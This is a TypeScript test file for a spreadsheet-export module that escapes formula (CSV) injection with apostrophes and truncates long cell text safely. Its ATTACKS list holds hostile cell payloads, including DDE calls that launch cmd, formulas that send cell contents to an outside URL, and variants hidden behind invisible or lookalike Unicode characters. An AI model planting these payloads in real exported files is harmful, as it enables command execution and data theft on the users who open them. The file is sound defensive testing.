import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { fittingCell, MOST_OF_A_CELL, withFormulas, withoutFormulas } from './cell-text.ts';

/** Attacks from OWASP's page on CSV injection, from reports about other programs, and variations of them. */
const ATTACKS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  "=cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '|cmd /C calc',
  '=HYPERLINK("http://example.org/?x="&A1,"Chi tiết")',
  '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
  '=WEBSERVICE("http://example.org")',
  '=DDE("cmd";"/C calc";"x")',
  // Behind white space and what cannot be seen.
  ' =1+1',
  '\u00A0=1+1',
  '\u202F=1+1',
  '\u3000=1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '\u00AD=1+1',
  '\u2060\u200D=1+1',
  '\u202E=1+1',
  '\uFE0F=1+1',
  '\u3164=1+1',
  '\u0000=1+1',
  '\u001B=1+1',
  '\uD800=1+1',
  ' \u00A0\u200B =1+1',
  '"=1+1"',
  '""=1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\tđầu tư',
  '\rđầu tư',
  ' \nđầu tư',
  // Other forms of the marks.
  '\uFF1D1+1',
  '\uFF0B1+1',
  '\uFF0D1+1',
  '\uFF20SUM(1)',
  '\u22121+1',
  '\uFE661+1',
  '\uFE621+1',
  '\uFE631+1',
  '\uFE6BSUM(1)',
  '\u00A0\uFF1D1+1',
  // Where a program sees another cell begin.
  'đầu tư\n=1+1',
  'đầu tư\r\n \u00A0=1+1',
  'đầu tư\r=1+1',
  'đầu tư\u2028=1+1',
  'đầu tư\u0085=1+1',
  'đầu tư\v=1+1',
  'đầu tư;=1+1',
  'đầu tư; =1+1',
  'đầu tư\t=1+1',
  'đầu tư";"=1+1',
  'a\nb\n=1+1\nc\n@x',
  // Apostrophes that were there.
  "'=1+1",
  "'' =1+1",
];

/** What nobody sees, by code point, first and last. Not made of what the code is made of. */
const UNSEEN = [
  [0x00, 0x1f],
  [0x7f, 0x9f],
  [0xad, 0xad],
  [0x61c, 0x61c],
  [0x180e, 0x180e],
  [0x200b, 0x200f],
  [0x202a, 0x202e],
  [0x2060, 0x206f],
  [0x3164, 0x3164],
  [0xd800, 0xdfff],
  [0xfe00, 0xfe0f],
  [0xfeff, 0xfeff],
] as const;

function isPassedOver(character: string): boolean {
  const code = character.codePointAt(0) ?? 0;
  return (
    character === '"' ||
    character.trim() === '' ||
    UNSEEN.some(([first, last]) => first <= code && code <= last)
  );
}

const MARKS = [...'=+-@|−＝＋－＠｜﹢﹣﹦﹫'];

/** Whether some program could find a formula in a cell of a file without types. */
function isDangerous(cell: string): boolean {
  if (/^["\s\u200B\u00AD]*[\t\r\n\v\f\u0085\u2028\u2029]/.test(cell)) return true;
  const cells = cell.split(/[\t\r\n\v\f\u0085\u2028\u2029;]/);
  return cells.some((each) => {
    const first = [...each].find((character) => !isPassedOver(character));
    return first !== undefined && MARKS.includes(first);
  });
}

describe('formulas in cells', () => {
  test.each(ATTACKS)('%j is made harmless, and can be had back', (attack) => {
    const cell = withoutFormulas(attack);
    // An apostrophe of its own makes it harmless already; one more tells it from ours.
    expect(isDangerous(attack) || attack.startsWith("'")).toBe(true);
    expect(isDangerous(cell)).toBe(false);
    expect(cell).not.toBe(attack);
    expect(withFormulas(cell)).toBe(attack);
  });

  test.each([
    ['=1+1', "'=1+1"],
    ["'=1+1", "''=1+1"],
    [' -5%', "' -5%"],
    ['- việc làm\n- tiền lương', "'- việc làm\n'- tiền lương"],
    ['vốn vay; -5%', "vốn vay;' -5%"],
    ['\n\n=1', "'\n\n'=1"],
  ])('%j is written %j', (text, cell) => {
    expect(withoutFormulas(text)).toBe(cell);
  });

  test.each([
    '',
    'Hai nước ký kết 3 công hàm',
    '“=”',
    '15-18/12',
    'A + B = C',
    'tăng 5%, -3% so với 2022',
    "'trích' dẫn",
    '– Ảnh: VGP',
    '— Ảnh',
    'xúc tiến\nđầu tư',
    '🇻🇳 = 🇯🇵',
    'd\u0323o\u0302\u0301i',
  ])('%j stays as it is', (text) => {
    expect(withoutFormulas(text)).toBe(text);
    expect(withFormulas(text)).toBe(text);
  });

  const texts = fc
    .array(
      fc.oneof(
        fc.constantFrom(...'=+-@|;"\'\n\r\t \u00A0\u200B\uFEFF\uFF1D\u2212\uFF20\u2028\u0085a'),
        fc.string({ unit: 'grapheme', maxLength: 3 }),
        fc.string({ unit: 'binary', maxLength: 3 }),
        fc.integer({ min: 0xd800, max: 0xdfff }).map((half) => String.fromCharCode(half)),
        fc.constantFrom(...ATTACKS),
      ),
      { maxLength: 12 },
    )
    .map((parts) => parts.join(''));

  test('no cell is dangerous, and every text can be had back', () => {
    fc.assert(
      fc.property(texts, (text) => {
        const cell = withoutFormulas(text);
        expect(isDangerous(cell)).toBe(false);
        expect(withFormulas(cell)).toBe(text);
      }),
      { numRuns: 5_000 },
    );
  });

  test('only apostrophes are put in', () => {
    fc.assert(
      fc.property(texts, (text) => {
        expect(withoutFormulas(text).replaceAll("'", '')).toBe(text.replaceAll("'", ''));
      }),
    );
  });
});

describe('long texts in cells', () => {
  const mark = ' […]';

  test('what fits stays whole', () => {
    const text = 'ế'.repeat(MOST_OF_A_CELL);
    expect(fittingCell(text, mark)).toBe(text);
  });

  test.each([
    ['letters', 'ế', 1],
    ['letters with marks of their own', 'e\u0302\u0301', 3],
    ['families', '👩‍👩‍👧‍👦', 11],
    ['flags', '🇻🇳', 4],
    ['halves of pairs', '\uD83D', 1],
  ])('%s are kept whole, and the cut is said', (_, grapheme, length) => {
    const cell = fittingCell(grapheme.repeat(40_000), mark);
    expect(cell.length).toBeLessThanOrEqual(MOST_OF_A_CELL);
    expect(cell.length).toBeGreaterThan(MOST_OF_A_CELL - length);
    expect(cell.endsWith(mark)).toBe(true);
    expect(cell.slice(0, -mark.length)).toBe(
      grapheme.repeat((cell.length - mark.length) / grapheme.length),
    );
  });

  test('a letter with marks without end is cut somewhere', () => {
    const cell = fittingCell(`e${'\u0316'.repeat(40_000)}`, mark);
    expect(cell.length).toBeLessThanOrEqual(MOST_OF_A_CELL);
    expect(cell.length).toBeGreaterThan(MOST_OF_A_CELL - 500);
  });
});
